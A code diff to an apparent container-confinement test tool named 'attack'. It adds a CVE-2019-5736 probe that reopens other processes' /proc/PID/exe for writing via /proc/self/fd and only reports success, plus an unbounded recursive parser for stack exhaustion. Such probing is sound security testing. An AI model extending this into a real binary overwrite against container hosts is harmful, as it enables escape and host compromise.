@@ -121,11 +121,52 @@ void look_at_rights(const char* pid) {
         puts("unconfined mounts");
 }
 
+// Programs of newcomers. While one runs it cannot be written; whoever has it
+// open can wait, and try again by /proc/self/fd (CVE-2019-5736).
+int programs[64];
+
+// The container's own are no loot.
+bool is_own(int fd, const char* target) {
+    struct stat there {
+    }, here{};
+    return fstat(fd, &there) != 0 ||
+           (stat(target, &here) == 0 && there.st_dev == here.st_dev &&
+            there.st_ino == here.st_ino);
+}
+
+void try_programs() {
+    for (int& fd : programs) {
+        if (fd == 0) continue;
+        char path[64], target[4096];
+        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+        ssize_t size = readlink(path, target, sizeof target - 1);
+        target[size < 0 ? 0 : size] = '\0';
+        // Without truncation: a success is reported, and does nothing.
+        int written = is_own(fd, target) ? -1 : open(path, O_WRONLY);
+        if (written >= 0) {
+            printf("writes /proc/PID/exe %s\n", target);
+            close(written);
+        } else if (errno == ETXTBSY) {
+            continue;
+        }
+        close(fd);
+        fd = 0;
+    }
+}
+
+void take_program(const char* path) {
+    for (int& fd : programs)
+        if (fd == 0) {
+            int opened = open(path, O_RDONLY);
+            fd = opened > 0 ? opened : 0;
+            return;
+        }
+}
+
 void look_at(const char* pid) {
     char path[300];
     snprintf(path, sizeof path, "/proc/%s/exe", pid);
-    // For writing without truncation: a success is reported, and does nothing.
-    if (open(path, O_WRONLY) >= 0) printf("writes %s\n", path);
+    take_program(path);
     snprintf(path, sizeof path, "/proc/%s/fd", pid);
     if (DIR* files = opendir(path)) {
         while (dirent* file = readdir(files)) {
@@ -162,6 +203,7 @@ void look_at(const char* pid) {
     while (true) {
         while (waitpid(-1, nullptr, WNOHANG) > 0) {
         }
+        try_programs();
         fflush(stdout);
         DIR* folder = opendir("/proc");
         if (!folder) exit(1);
@@ -238,9 +280,17 @@ void foreign() {
 #endif
 }
 
+// A parser of brackets without a limit, as any is that calls itself.
+int nested(FILE* text) {
+    volatile int inner = 0;
+    for (int letter = getc(text); letter == '['; letter = getc(text))
+        inner = nested(text) + 1;
+    return inner;
+}
+
 int usage() {
     fputs(
-        "attack calls|files|lurk|trapped|traced|foreign|handle PATH|"
+        "attack calls|files|lurk|trapped|traced|foreign|nested|handle PATH|"
         "abstract NAME|swap A B\n",
         stderr);
     return 2;
@@ -262,6 +312,8 @@ int main(int argc, char** argv) {
         traced();
     else if (strcmp(what, "foreign") == 0)
         foreign();
+    else if (strcmp(what, "nested") == 0)
+        printf("nested %d\n", nested(stdin));
     else if (strcmp(what, "handle") == 0 && argc == 3)
         handle(argv[2]);
     else if (strcmp(what, "abstract") == 0 && argc == 3)
